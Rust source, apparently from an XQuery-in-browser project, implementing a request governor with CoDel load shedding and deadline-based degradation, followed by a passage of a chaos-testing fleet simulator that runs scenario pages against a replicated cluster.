    pub cfg: GovernorConfig,
    queues: [VecDeque<Pending>; 3],
    /// Virtual time the single-threaded server frees up.
    free_at: u64,
    codel: CoDel,
    next_id: u64,
    pub stats: OverloadStats,
}

impl RequestGovernor {
    pub fn new(cfg: GovernorConfig) -> Self {
        let codel = CoDel::new(cfg.codel_target_ms, cfg.codel_interval_ms);
        RequestGovernor {
            cfg,
            queues: [VecDeque::new(), VecDeque::new(), VecDeque::new()],
            free_at: 0,
            codel,
            next_id: 0,
            stats: OverloadStats::default(),
        }
    }

    /// Requests currently queued across all classes.
    pub fn backlog(&self) -> usize {
        self.queues.iter().map(VecDeque::len).sum()
    }

    fn dequeue(&mut self) -> Option<Pending> {
        self.queues.iter_mut().find_map(VecDeque::pop_front)
    }

    fn shed_response(&self) -> ServerResponse {
        ServerResponse::new(503, "<error class=\"overload\">server overloaded</error>")
            .with_header("Retry-After", &self.cfg.retry_after_s.to_string())
    }
}

/// A last-resort responder the degrade path consults before giving up
/// with a 504 — e.g. a cluster plugging in bounded-staleness follower
/// reads: a lagging replica beats no answer at all.
pub type DegradeFallback = Box<dyn FnMut(&str) -> Option<ServerResponse>>;

/// An [`AppServer`] behind a [`RequestGovernor`].
pub struct GovernedServer {
    pub server: AppServer,
    pub gov: RequestGovernor,
    fallback: Option<DegradeFallback>,
}

impl GovernedServer {
    pub fn new(server: AppServer, cfg: GovernorConfig) -> Self {
        GovernedServer {
            server,
            gov: RequestGovernor::new(cfg),
            fallback: None,
        }
    }

    /// Installs a degrade fallback, consulted for render-class requests
    /// after the snapshot cache misses and before the 504: the preference
    /// order becomes fresh > snapshot > fallback > 504.
    pub fn set_degrade_fallback(&mut self, fallback: DegradeFallback) {
        self.fallback = Some(fallback);
    }

    /// Offers a request arriving at virtual time `now`. Either admits it
    /// into the bounded class queue or sheds it immediately (queue full).
    pub fn submit(&mut self, url: &str, now: u64) -> Admission {
        self.gov.stats.submitted += 1;
        let class = Class::of_url(url);
        let id = self.gov.next_id;
        self.gov.next_id += 1;
        if self.gov.queues[class.index()].len() >= self.gov.cfg.queue_capacity {
            self.gov.stats.shed_queue_full += 1;
            return Admission::Rejected(Completion {
                id,
                class,
                arrival: now,
                finished: now,
                queue_delay_ms: 0,
                outcome: Outcome::ShedQueueFull,
                response: self.gov.shed_response(),
            });
        }
        self.gov.stats.admitted += 1;
        self.gov.queues[class.index()].push_back(Pending {
            id,
            url: url.to_string(),
            class,
            arrival: now,
        });
        Admission::Queued(id)
    }

    /// Serves queued requests until the virtual clock reaches `now` (or the
    /// backlog empties). Every request dequeued here produces exactly one
    /// [`Completion`].
    pub fn run_until(&mut self, now: u64) -> Vec<Completion> {
        let mut done = Vec::new();
        while self.gov.free_at <= now && self.dequeue_one(&mut done).is_some() {}
        done
    }

    /// Serves the entire backlog, advancing virtual time as far as needed.
    /// Returns the completions in service order.
    pub fn drain(&mut self) -> Vec<Completion> {
        let mut done = Vec::new();
        while self.dequeue_one(&mut done).is_some() {}
        done
    }

    /// Mirrors the governor's overload counters into the wrapped server's
    /// `ServerMetrics` (so `/metrics` reports them).
    pub fn sync_metrics(&mut self) {
        let stats = self.gov.stats.clone();
        self.server.metrics.record_overload(&stats);
    }

    /// Virtual time at which the server is next free.
    pub fn free_at(&self) -> u64 {
        self.gov.free_at
    }

    /// Dequeues and serves one request, pushing its completion. Returns
    /// `None` when the backlog is empty.
    fn dequeue_one(&mut self, done: &mut Vec<Completion>) -> Option<()> {
        let p = self.gov.dequeue()?;
        let start = self.gov.free_at.max(p.arrival);
        let delay = start - p.arrival;
        self.gov.stats.queue_delays.push(delay);

        // CoDel: shed standing-queue victims with a cheap 503
        if self.gov.codel.should_shed(delay, start) {
            self.gov.stats.shed_queue_delay += 1;
            self.gov.stats.completed += 1;
            self.gov.free_at = start; // shedding is free: no evaluation ran
            done.push(Completion {
                id: p.id,
                class: p.class,
                arrival: p.arrival,
                finished: start,
                queue_delay_ms: delay,
                outcome: Outcome::ShedQueueDelay,
                response: self.gov.shed_response(),
            });
            return Some(());
        }

        let deadline = self.gov.cfg.deadline_ms[p.class.index()];
        let (response, outcome, service_ms) = if deadline > 0 && delay >= deadline {
            // the whole deadline was eaten by queueing: never evaluate
            self.degrade_or_504(&p)
        } else {
            let budget =
                (deadline > 0).then(|| (deadline - delay).saturating_mul(self.gov.cfg.fuel_per_ms));
            let (resp, fuel_used) = self.server.handle_budgeted(&p.url, budget);
            // fuel retired on the engine is the virtual CPU cost; every
            // request additionally pays 1 ms of fixed routing/serialisation
            let service_ms = fuel_used / self.gov.cfg.fuel_per_ms + 1;
            if resp.status == 504 {
                // XQIB0014 from the evaluator: the deadline fired mid-query
                let (resp, outcome, _) = self.degrade_or_504(&p);
                (resp, outcome, service_ms)
            } else {
                (resp, Outcome::Served, service_ms)
            }
        };
        self.gov.free_at = start + service_ms;
        self.gov.stats.completed += 1;
        done.push(Completion {
            id: p.id,
            class: p.class,
            arrival: p.arrival,
            finished: self.gov.free_at,
            queue_delay_ms: delay,
            outcome,
            response,
        });
        Some(())
    }

    /// The deadline-miss fallback: render-class requests degrade to the
    /// cached snapshot when enabled, everything else fails with 504. The
    /// fixed cost of either path is 1 virtual ms.
    fn degrade_or_504(&mut self, p: &Pending) -> (ServerResponse, Outcome, u64) {
        if p.class == Class::Render && self.gov.cfg.degrade_renders {
            if let Some(resp) = self.server.degraded_snapshot(&p.url) {
                self.gov.stats.degraded += 1;
                return (resp, Outcome::Degraded, 1);
            }
            if let Some(fallback) = &mut self.fallback {
                if let Some(resp) = fallback(&p.url) {
                    self.gov.stats.degraded += 1;
                    return (resp, Outcome::Degraded, 1);
                }
            }
        }
        self.gov.stats.deadline_exceeded += 1;
        (
            ServerResponse::new(
                504,
                "<error>XQIB0014: request deadline exceeded</error>".to_string(),
            ),
            Outcome::DeadlineExceeded,
            1,
        )
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use crate::corpus::{generate_corpus, CorpusSpec};

    fn governed(cfg: GovernorConfig) -> GovernedServer {
        let server = AppServer::new(&generate_corpus(&CorpusSpec::default())).unwrap();
        GovernedServer::new(server, cfg)
    }

    #[test]
    fn classes_route_by_path() {
        assert_eq!(Class::of_url("/page?article=x"), Class::Render);
        assert_eq!(Class::of_url("/index"), Class::Render);
        assert_eq!(Class::of_url("http://h/doc?uri=u"), Class::Render);
        assert_eq!(Class::of_url("/query?xq=1"), Class::Query);
        assert_eq!(Class::of_url("/update?xq=1"), Class::Update);
    }

    #[test]
    fn under_capacity_nothing_is_shed_or_degraded() {
        let mut g = governed(GovernorConfig::default());
        let mut ids = Vec::new();
        for k in 0..20u64 {
            // one request every 100 virtual ms: far under capacity
            let t = k * 100;
            match g.submit("/page?article=j0-v0-i0-a0", t) {
                Admission::Queued(id) => ids.push(id),
                Admission::Rejected(_) => panic!("shed under capacity"),
            }
            for c in g.run_until(t) {
                assert_eq!(c.outcome, Outcome::Served);
                assert_eq!(c.response.status, 200);
            }
        }
        let rest = g.drain();
        assert!(g.gov.stats.shed() == 0 && g.gov.stats.degraded == 0);
        assert_eq!(
            g.gov.stats.completed as usize,
            ids.len(),
            "drain finished the tail: {rest:?}"
        );
    }

    #[test]
    fn queue_overflow_sheds_with_retry_after() {
        let mut g = governed(GovernorConfig {
            queue_capacity: 4,
            ..Default::default()
        });
        let mut shed = 0;
        for _ in 0..10 {
            if let Admission::Rejected(c) = g.submit("/page?article=j0-v0-i0-a0", 0) {
                assert_eq!(c.response.status, 503);
                assert_eq!(c.response.header("Retry-After"), Some("1"));
                assert_eq!(c.outcome, Outcome::ShedQueueFull);
                shed += 1;
            }
        }
        assert_eq!(shed, 6, "4 admitted, 6 shed");
        assert_eq!(g.gov.backlog(), 4);
    }

    #[test]
    fn render_class_dequeues_before_queries() {
        let mut g = governed(GovernorConfig::default());
        g.submit("/query?xq=1", 0);
        g.submit("/query?xq=2", 0);
        g.submit("/index", 0);
        let done = g.drain();
        assert_eq!(done[0].class, Class::Render, "render jumps the queue");
        assert_eq!(done[1].class, Class::Query);
    }

    #[test]
    fn deadline_eaten_in_queue_degrades_renders_and_504s_queries() {
        // deadline 50ms, but the server is busy until t=1000
        let mut g = governed(GovernorConfig::default());
        g.gov.free_at = 1000;
        g.submit("/page?article=j0-v0-i0-a0", 0);
        g.submit("/query?xq=1+to+3", 0);
        let done = g.drain();
        let page = &done[0];
        assert_eq!(page.outcome, Outcome::Degraded);
        assert_eq!(page.response.status, 200);
        assert!(page.response.body.starts_with("<library>"));
        assert_eq!(
            page.response.header("X-XQIB-Degraded"),
            Some("whole-document-snapshot")
        );
        let query = &done[1];
        assert_eq!(query.outcome, Outcome::DeadlineExceeded);
        assert_eq!(query.response.status, 504);
        // each miss lands in exactly one bucket: degraded or failed
        assert_eq!(g.gov.stats.deadline_exceeded, 1);
        assert_eq!(g.gov.stats.degraded, 1);
    }

    #[test]
    fn degrade_fallback_beats_the_504_when_the_snapshot_misses() {
        // a /doc render for a URI this server never held: the snapshot
        // cache misses, so without a fallback the deadline miss is a 504 —
        // with one (a cluster's follower read), it degrades instead
        let mut g = governed(GovernorConfig::default());
        g.gov.free_at = 1000;
        g.submit("/doc?uri=replica-only.xml", 0);
        let done = g.drain();
        assert_eq!(done[0].outcome, Outcome::DeadlineExceeded);
        assert_eq!(done[0].response.status, 504);

        let mut g = governed(GovernorConfig::default());
        g.set_degrade_fallback(Box::new(|url: &str| {
            url.contains("replica-only.xml").then(|| {
                ServerResponse::new(200, "<from-follower/>")
                    .with_header("X-XQIB-Replica", "s0r1")
                    .with_header("X-XQIB-Replica-Lag", "3")
            })
        }));
        g.gov.free_at = 1000;
        g.submit("/doc?uri=replica-only.xml", 0);
        let done = g.drain();
        assert_eq!(done[0].outcome, Outcome::Degraded);
        assert_eq!(done[0].response.status, 200);
        assert_eq!(done[0].response.header("X-XQIB-Replica-Lag"), Some("3"));
        assert_eq!(g.gov.stats.degraded, 1);
        assert_eq!(g.gov.stats.deadline_exceeded, 0);
    }

    #[test]
    fn codel_sheds_standing_queues_but_rides_out_short_bursts() {
        let mut codel = CoDel::new(20, 100);
        // short burst: delay above target for less than one interval
        assert!(!codel.should_shed(30, 0));
        assert!(!codel.should_shed(35, 50));
        // delay recovers: state resets
        assert!(!codel.should_shed(5, 60));
        // standing queue: above target for a full interval → dropping
        assert!(!codel.should_shed(30, 100));
        assert!(!codel.should_shed(40, 150));
        assert!(codel.should_shed(50, 210), "one interval elapsed");
        // drop rate accelerates: next drop within interval/√2
        assert!(codel.should_shed(60, 210 + 100));
        // recovery closes the dropping state
        assert!(!codel.should_shed(3, 500));
        assert!(!codel.should_shed(30, 510), "fresh interval starts over");
    }

    #[test]
    fn isqrt_is_floor_sqrt() {
        for (n, r) in [(0, 0), (1, 1), (2, 1), (3, 1), (4, 2), (99, 9), (100, 10)] {
            assert_eq!(isqrt(n), r, "isqrt({n})");
        }
    }

    #[test]
    fn sync_metrics_mirrors_overload_counters() {
        let mut g = governed(GovernorConfig {
            queue_capacity: 1,
            ..Default::default()
        });
        g.submit("/index", 0);
        g.submit("/index", 0); // shed: queue full
        g.drain();
        g.sync_metrics();
        assert_eq!(g.server.metrics.admitted, 1);
        assert_eq!(g.server.metrics.shed, 1);
        let xml = g.server.handle("/metrics");
        assert!(xml.body.contains("<admitted>1</admitted>"), "{}", xml.body);
        assert!(xml.body.contains("<shed>1</shed>"));
    }
}
