//! Closed-loop browser fleet (ROADMAP item 4): real [`Plugin`] XQIB
//! clients against the replicated cluster of PR 7, under seeded chaos.
//!
//! Every prior fault/overload experiment (PRs 2–6) measured the server
//! tier with *open-loop* synthetic request generators. This module closes
//! the loop the way the paper's §6 deployments would: each simulated
//! browser is an actual `Plugin` running one of the three §6 scenarios as
//! an XQuery page — (a) Elsevier whole-document caching, (b) the
//! JS/XQuery mash-up via minijs, (c) an XQuery-only shopping cart issuing
//! `/update`s — with its own stale cache, circuit breaker and quarantine
//! state, honoring `Retry-After` on 503 and backing off on
//! `X-XQIB-Degraded` / `X-XQIB-Replica-Lag` responses.
//!
//! All clients and the cluster share one virtual timeline: a master
//! [`EventLoop`] schedules client turns; each turn syncs the client's own
//! event loop up to the fleet clock, runs one interaction to completion
//! (closed loop: the next interaction is only scheduled after this one's
//! outcome is observed), and charges any time the cluster spent resolving
//! a pending update back to the client's clock. The run is deterministic:
//! the same [`FleetConfig`] produces a bit-identical [`FleetReport`].

use std::cell::{Cell, RefCell};
use std::collections::HashMap;
use std::rc::Rc;

use xqib_browser::net::{FaultPlan, Response};
use xqib_browser::{EventLoop, RecoveryConfig, RecoveryStats};
use xqib_core::plugin::{Plugin, PluginConfig};
use xqib_minijs::JsEngine;
use xqib_storage::StorageFaultPlan;
use xqib_xdm::{XdmError, XdmResult};

use crate::cluster::{
    Cluster, ClusterConfig, IntegrityStats, ReplicationStats, Submitted, TopologyChange,
};
use crate::corpus::{article_ids, generate_corpus, CorpusSpec};

/// The origin every simulated browser talks to.
pub const CLUSTER_BASE: &str = "http://cluster.xqib";
/// The cluster host name (fault plans and per-host stats key off it).
pub const CLUSTER_HOST: &str = "cluster.xqib";
/// Request latency of the browser↔cluster link, virtual ms.
const CLUSTER_LATENCY_MS: u64 = 10;
/// Cluster housekeeping tick while clients think, virtual ms.
const TICK_MS: u64 = 50;
/// Replica lag (frames) beyond which a client backs off its think time.
const LAG_BACKOFF_THRESHOLD: u64 = 8;
/// Cities served by the mash-up scenario's shared `cities.xml`.
const CITIES: &[&str] = &["Madrid", "Zurich", "Oslo", "Kyoto", "Quito"];

fn mix64(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

// ---------------------------------------------------------------------
// Configuration
// ---------------------------------------------------------------------

/// Which §6 deployment a simulated browser runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scenario {
    /// §6.1: whole-document caching — `behind` renders of `corpus.xml`.
    Elsevier,
    /// §6.2: JS map panel + XQuery weather on one page, plus a `behind`
    /// fetch of the shared `cities.xml` from the cluster.
    Mashup,
    /// §6.3-style XQuery-only cart: `/update`s against `cart-<i>.xml`.
    Cart,
}

impl Scenario {
    pub fn label(&self) -> &'static str {
        match self {
            Scenario::Elsevier => "elsevier",
            Scenario::Mashup => "mashup",
            Scenario::Cart => "cart",
        }
    }
}

/// The chaos playing out underneath the fleet.
#[derive(Debug, Clone, Default)]
pub struct FleetChaos {
    /// Fault-plan template for every browser↔cluster link; reseeded per
    /// client so links fail independently.
    pub net: Option<FaultPlan>,
    /// Storage-fault template for every cluster seat's virtual disk.
    pub disk: Option<StorageFaultPlan>,
    /// Replication-link partitions: `(shard, slot, from_ms, to_ms)`.
    pub partitions: Vec<(usize, usize, u64, u64)>,
    /// Scheduled leader crashes: `(at_ms, shard)`.
    pub leader_crashes: Vec<(u64, usize)>,
    /// Scheduled topology changes: `(at_ms, change)`. Clients keep their
    /// cached routes and re-resolve on the resulting 421 fences.
    pub reshards: Vec<(u64, TopologyChange)>,
}

/// A fleet run: who, how many, against what, under which chaos.
#[derive(Debug, Clone)]
pub struct FleetConfig {
    pub seed: u64,
    pub elsevier_clients: usize,
    /// Extra Elsevier clients that cache-bust every `/doc` fetch — the
    /// pre-migration deployment's traffic shape. They hit the origin on
    /// every interaction, so they see blackouts (degraded reads, 503s)
    /// that cached clients ride out, and they are the baseline the
    /// offload ratio is measured against.
    pub elsevier_nocache_clients: usize,
    pub mashup_clients: usize,
    pub cart_clients: usize,
    /// Interactions per client (the final convergence render is extra).
    pub interactions_per_client: usize,
    /// Base think time between a client's interactions, virtual ms.
    pub think_ms: u64,
    /// Per-client recovery knobs (stale cache bound, breaker, retries).
    pub recovery: RecoveryConfig,
    pub cluster: ClusterConfig,
    pub chaos: FleetChaos,
    pub corpus: CorpusSpec,
}

impl Default for FleetConfig {
    fn default() -> Self {
        FleetConfig {
            seed: 0,
            elsevier_clients: 4,
            elsevier_nocache_clients: 0,
            mashup_clients: 2,
            cart_clients: 2,
            interactions_per_client: 4,
            think_ms: 200,
            recovery: RecoveryConfig::default(),
            cluster: ClusterConfig::default(),
            chaos: FleetChaos::default(),
            corpus: CorpusSpec::default(),
        }
    }
}

impl FleetConfig {
    /// A healthy fleet: no chaos at all. The offload baseline.
    pub fn quiet(seed: u64) -> Self {
        FleetConfig {
            seed,
            ..FleetConfig::default()
        }
    }

    /// The full chaos menu: lossy client links, failing seat disks, a
    /// replication-link partition and a mid-run leader crash.
    pub fn chaotic(seed: u64) -> Self {
        FleetConfig {
            seed,
            elsevier_clients: 4,
            elsevier_nocache_clients: 2,
            mashup_clients: 3,
            cart_clients: 3,
            interactions_per_client: 5,
            chaos: FleetChaos {
                net: Some(
                    FaultPlan::seeded(0)
                        .with_timeout_permille(120)
                        .with_error_permille(80),
                ),
                disk: Some(StorageFaultPlan {
                    seed: 0,
                    sync_fail_permille: 30,
                    corrupt_permille: 20,
                    corrupt_synced_permille: 0,
                    // latent at-rest bit rot: a couple permille per synced
                    // sector per decay period, scrubbed and repaired live
                    decay_permille: 2,
                    decay_period_ms: 100,
                }),
                partitions: vec![(0, 1, 400, 2500)],
                // both shards lose their leader mid-run, so every document
                // sees a blackout whichever shard owns it
                leader_crashes: vec![(1200, 0), (1400, 1)],
                // the cluster also grows a shard and reshuffles the ring
                // mid-run: cached routes go stale and clients must chase
                // the 421 fences to the new owners
                reshards: vec![
                    (800, TopologyChange::AddShard),
                    (1800, TopologyChange::Rebalance(7)),
                ],
            },
            ..FleetConfig::default()
        }
    }
}

// ---------------------------------------------------------------------
// Report
// ---------------------------------------------------------------------

/// Fleet-wide totals (mirrored into `ServerMetrics` as `fleet-*`).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FleetStats {
    pub clients: u64,
    /// Interactions performed (including each client's convergence render).
    pub interactions: u64,
    /// `behind` calls issued by the drivers.
    pub behind_calls: u64,
    pub attempts: u64,
    pub retries: u64,
    pub timeouts: u64,
    pub fetch_errors: u64,
    pub breaker_opens: u64,
    pub breaker_fast_fails: u64,
    pub stale_served: u64,
    pub stale_events: u64,
    pub error_events: u64,
    pub completions: u64,
    /// Stale-cache entries LRU-evicted across the fleet.
    pub evictions: u64,
    pub quarantine_trips: u64,
    /// Turns where a 503's `Retry-After` gated the next interaction.
    pub retry_after_honored: u64,
    /// Turns that observed `X-XQIB-Degraded` or high `X-XQIB-Replica-Lag`
    /// and doubled their think time.
    pub degraded_observed: u64,
    /// Requests that actually reached the wire towards the cluster.
    pub origin_requests: u64,
    /// `(behind_calls − origin_requests) * 1000 / behind_calls`, saturating:
    /// the §6.1 offload claim as a number.
    pub cache_hit_permille: u64,
}

/// One simulated browser's outcome.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ClientReport {
    pub id: usize,
    pub scenario: Scenario,
    /// True for the cache-busting Elsevier sub-population.
    pub nocache: bool,
    pub interactions: u64,
    pub behind_calls: u64,
    pub recovery: RecoveryStats,
    pub quarantine_trips: u64,
    /// Wire requests this client sent towards the cluster.
    pub origin_requests: u64,
    /// Cart only: the client's own cart document URI.
    pub cart_uri: String,
    /// Cart only: ops the page observed as acked (readyState 4).
    pub acked: Vec<String>,
    /// Elsevier: final `mode` span ("fresh"/"stale"/"error").
    pub final_mode: String,
    /// Elsevier: final `refcount` span.
    pub refcount: String,
    /// Mashup: maps the JS side drew (one per click, chaos-immune).
    pub maps: u64,
    /// Mashup: final `cities` span.
    pub cities: String,
    pub retry_after_honored: u64,
    pub degraded_observed: u64,
    /// This client's virtual clock at the end of the run.
    pub finished_at: u64,
}

/// The bit-identical outcome of a fleet run: same config ⇒ same report.
#[derive(Debug, Clone, PartialEq)]
pub struct FleetReport {
    pub seed: u64,
    pub clients: Vec<ClientReport>,
    pub totals: FleetStats,
    /// `(uri, marker)` pairs a cart page observed as acked but the
    /// recovered cluster does not hold. Must be empty: acked means durable.
    pub missing_acked: Vec<(String, String)>,
    /// Clients whose observable outcomes (completions + stale + error
    /// events) differ from the `behind` calls they issued. Must be empty.
    pub outcome_mismatches: Vec<usize>,
    /// Every Elsevier render and mash-up city count matched the
    /// post-recovery reference after chaos cleared.
    pub converged: bool,
    /// Largest client clock at the end, virtual ms.
    pub duration_ms: u64,
    pub replication: ReplicationStats,
    /// End-to-end integrity counters (scrub verdicts, quarantines,
    /// verified repairs, decay sweeps) for the whole run.
    pub integrity: IntegrityStats,
    /// Requests that hit a 421 epoch fence and were retried against the
    /// freshly re-resolved owner. Nonzero whenever routes went stale.
    pub reroutes: u64,
}

// ---------------------------------------------------------------------
// The scenario pages
// ---------------------------------------------------------------------

const ELSEVIER_PAGE: &str = r#"<html><head><title>Reference 2.0 (fleet)</title>
<script type="text/xqueryp"><![CDATA[
declare updating function local:onDoc($readyState, $result) {
  if ($readyState eq 4)
  then
    let $id := string(//span[@id="target"])
    let $a := $result//article[@id = $id]
    return {
      replace value of node //span[@id="refcount"]
        with string(count($a/references/reference)),
      replace value of node //span[@id="mode"] with "fresh"
    }
  else ()
};
declare updating function local:onStale($evt, $obj) {
  let $id := string(//span[@id="target"])
  let $a := $evt/payload//article[@id = $id]
  return {
    replace value of node //span[@id="refcount"]
      with string(count($a/references/reference)),
    replace value of node //span[@id="mode"] with "stale"
  }
};
declare updating function local:onError($evt, $obj) {
  replace value of node //span[@id="mode"] with "error"
};
on event "stale" at //body attach listener local:onStale;
on event "error" at //body attach listener local:onError
]]></script></head>
<body><div id="nav">Reference 2.0</div>
<span id="target"/><span id="refcount"/><span id="mode"/></body></html>"#;

const MASHUP_PAGE: &str = r#"<html><head><title>Mashup (fleet)</title>
<script type="text/javascript">
function onSearch(e) {
    var box = document.getElementById("searchbox");
    var query = box.getAttribute("value");
    var map = document.createElement("div");
    map.setAttribute("class", "map");
    map.setAttribute("data-location", query);
    document.getElementById("mappanel").appendChild(map);
}
var btn = document.getElementById("searchbutton");
btn.addEventListener("onclick", onSearch, false);
</script>
<script type="text/xqueryp"><![CDATA[
declare updating function local:onCities($readyState, $result) {
  if ($readyState eq 4)
  then {
    replace value of node //span[@id="cities"]
      with string(count($result//city)),
    replace value of node //span[@id="mode"] with "fresh"
  }
  else ()
};
declare updating function local:onSearch($evt, $obj) {
  let $loc := string(//input[@id="searchbox"]/@value)
  let $w := browser:httpGet(concat("http://weather.local/api?q=", $loc))
  return {
    delete node //div[@id="weatherpanel"]/*;
    insert node <div class="forecast">{data($w//summary)}</div>
      into //div[@id="weatherpanel"];
  }
};
declare updating function local:onStale($evt, $obj) {
  replace value of node //span[@id="mode"] with "stale"
};
declare updating function local:onError($evt, $obj) {
  replace value of node //span[@id="mode"] with "error"
};
on event "onclick" at //input[@id="searchbutton"] attach listener local:onSearch;
on event "stale" at //body attach listener local:onStale;
on event "error" at //body attach listener local:onError
]]></script></head>
<body>
<input id="searchbox" type="text" value=""/>
<input id="searchbutton" type="button" value="Search"/>
<div id="mappanel"/><div id="weatherpanel"/>
<span id="cities"/><span id="mode"/></body></html>"#;

const CART_PAGE: &str = r#"<html><head><title>Cart (fleet)</title>
<script type="text/xqueryp"><![CDATA[
declare updating function local:onAck($readyState, $result) {
  if ($readyState eq 4)
  then insert node <li class="acked">{string(//span[@id="op"])}</li>
       into //ul[@id="acked"]
  else ()
};
declare updating function local:onStale($evt, $obj) {
  insert node <li class="failed">{string(//span[@id="op"])}</li>
  into //ul[@id="failed"]
};
declare updating function local:onError($evt, $obj) {
  insert node <li class="failed">{string(//span[@id="op"])}</li>
  into //ul[@id="failed"]
};
on event "stale" at //body attach listener local:onStale;
on event "error" at //body attach listener local:onError
]]></script></head>
<body><span id="op"/><ul id="acked"/><ul id="failed"/></body></html>"#;

// ---------------------------------------------------------------------
// The client ↔ cluster bridge
// ---------------------------------------------------------------------

/// What the last cluster response carried — the browser [`Response`] has
/// no headers, so the bridge captures the degradation metadata here and
/// the fleet driver reads it after the turn.
#[derive(Debug, Default)]
struct LastMeta {
    status: u16,
    retry_after_ms: Option<u64>,
    degraded: bool,
    replica_lag: Option<u64>,
    /// Virtual time the bridge spent driving the cluster to resolve a
    /// pending update — charged to the client's clock after the turn.
    extra_wait_ms: u64,
}

impl LastMeta {
    fn reset_turn(&mut self) {
        self.status = 0;
        self.retry_after_ms = None;
        self.degraded = false;
        self.replica_lag = None;
    }
}

/// Routes one client's `http://cluster.xqib/...` traffic into the shared
/// cluster. Pending updates are resolved synchronously by stepping the
/// shared cluster clock (the wait is surfaced via `extra_wait_ms`); the
/// shared clock is monotone across clients, so the cluster never sees
/// time regress even though client clocks drift apart.
///
/// Each client caches its routing decisions per document URI, the way a
/// real browser would pin a shard endpoint. When a topology change moves
/// a document, the cached route hits the old owner's 421 epoch fence; the
/// bridge then re-resolves the owner and retries once, bumping the shared
/// `reroutes` counter.
fn wire_cluster(
    plugin: &mut Plugin,
    cluster: &Rc<RefCell<Cluster>>,
    cluster_now: &Rc<Cell<u64>>,
    meta: &Rc<RefCell<LastMeta>>,
    reroutes: &Rc<Cell<u64>>,
    step_ms: u64,
    pending_cap_ms: u64,
) {
    let cluster = cluster.clone();
    let clock = cluster_now.clone();
    let meta = meta.clone();
    let reroutes = reroutes.clone();
    let routes: RefCell<HashMap<String, usize>> = RefCell::new(HashMap::new());
    plugin.host.borrow_mut().net.register_with_now(
        &format!("{CLUSTER_BASE}/"),
        CLUSTER_LATENCY_MS,
        move |req, now| {
            let entered = clock.get().max(now);
            clock.set(entered);
            let mut t = entered;
            let uri = Cluster::routing_uri(&req.url);
            let shard = *routes
                .borrow_mut()
                .entry(uri.clone())
                .or_insert_with(|| cluster.borrow().owner(&uri));
            let mut submitted = cluster.borrow_mut().serve_at(shard, &req.url, t);
            if matches!(&submitted, Submitted::Done(d) if d.response.status == 421) {
                // stale route: the document moved (or the shard retired)
                // since this client last resolved it. Chase the fence.
                reroutes.set(reroutes.get() + 1);
                let fresh = cluster.borrow().owner(&uri);
                routes.borrow_mut().insert(uri, fresh);
                submitted = cluster.borrow_mut().serve_at(fresh, &req.url, t);
            }
            let completion = match submitted {
                Submitted::Done(c) => Some(*c),
                Submitted::Pending(id) => {
                    let mut found = None;
                    let deadline = t.saturating_add(pending_cap_ms);
                    while found.is_none() && t < deadline {
                        t += step_ms.max(1);
                        for c in cluster.borrow_mut().advance(t) {
                            if c.id == id {
                                found = Some(c);
                            }
                        }
                    }
                    clock.set(clock.get().max(t));
                    found
                }
            };
            let mut m = meta.borrow_mut();
            m.extra_wait_ms += t - entered;
            match completion {
                Some(c) => {
                    m.status = c.response.status;
                    m.retry_after_ms = c
                        .response
                        .header("Retry-After")
                        .and_then(|v| v.parse::<u64>().ok())
                        .map(|secs| secs.saturating_mul(1000));
                    m.degraded = c.response.header("X-XQIB-Degraded").is_some();
                    m.replica_lag = c
                        .response
                        .header("X-XQIB-Replica-Lag")
                        .and_then(|v| v.parse().ok());
                    // successful updates reply with an empty body; the
                    // browser parses XML responses, so ship a minimal ack
                    let body = if c.response.body.is_empty() {
                        "<ok/>".to_string()
                    } else {
                        c.response.body
                    };
                    Response {
                        status: c.response.status,
                        body,
                        content_type: "application/xml".to_string(),
                    }
                }
                None => {
                    // the pending update outlived the wait cap: surface the
                    // same contract as the cluster's own ack timeout
                    m.status = 503;
                    m.retry_after_ms = Some(1000);
                    m.degraded = false;
                    m.replica_lag = None;
                    Response {
                        status: 503,
                        body: "<error code=\"XQIB0017\">cluster did not resolve \
                               the update in time</error>"
                            .to_string(),
                        content_type: "application/xml".to_string(),
                    }
                }
            }
        },
    );
}

// ---------------------------------------------------------------------
// Per-client driver state
// ---------------------------------------------------------------------

struct ClientState {
    plugin: Plugin,
    scenario: Scenario,
    nocache: bool,
    idx: usize,
    meta: Rc<RefCell<LastMeta>>,
    /// Keeps the mash-up JS engine (and its listeners) alive.
    _engine: Option<Rc<RefCell<JsEngine>>>,
    cart_uri: String,
    interactions: u64,
    behind_calls: u64,
    retry_after_honored: u64,
    degraded_observed: u64,
    blocked_until: u64,
    done: bool,
}

impl ClientState {
    fn span(&self, id: &str) -> String {
        let page = self.plugin.serialize_page();
        span_text(&page, id)
    }
}

/// Extracts `<span id="ID">TEXT</span>` from serialized markup.
fn span_text(page: &str, id: &str) -> String {
    let needle = format!("<span id=\"{id}\">");
    let Some(start) = page.find(&needle) else {
        return String::new();
    };
    let rest = &page[start + needle.len()..];
    match rest.find("</span>") {
        Some(end) => rest[..end].to_string(),
        None => String::new(),
    }
}

/// Extracts the text of every `<li class="CLASS">…</li>` in order.
fn li_texts(page: &str, class: &str) -> Vec<String> {
    let needle = format!("<li class=\"{class}\">");
    let mut out = Vec::new();
    let mut rest = page;
    while let Some(start) = rest.find(&needle) {
        rest = &rest[start + needle.len()..];
        let Some(end) = rest.find("</li>") else { break };
        out.push(rest[..end].to_string());
        rest = &rest[end..];
    }
    out
}

fn eval_err(client: usize, stage: &str, e: XdmError) -> XdmError {
    XdmError::new("XQIB0018", format!("fleet client {client} {stage}: {e}"))
}

fn origin_requests(plugin: &Plugin) -> u64 {
    plugin
        .host
        .borrow()
        .net
        .stats
        .per_host
        .get(CLUSTER_HOST)
        .map(|h| h.requests)
        .unwrap_or(0)
}

// ---------------------------------------------------------------------
// The fleet itself
// ---------------------------------------------------------------------

enum FleetEvent {
    Turn(usize),
    Tick,
}

/// Runs the whole fleet to completion and returns the (bit-identical)
/// report plus the post-recovery cluster for further inspection.
pub fn run_fleet(cfg: &FleetConfig) -> XdmResult<(FleetReport, Cluster)> {
    if cfg.corpus.total_articles() == 0 {
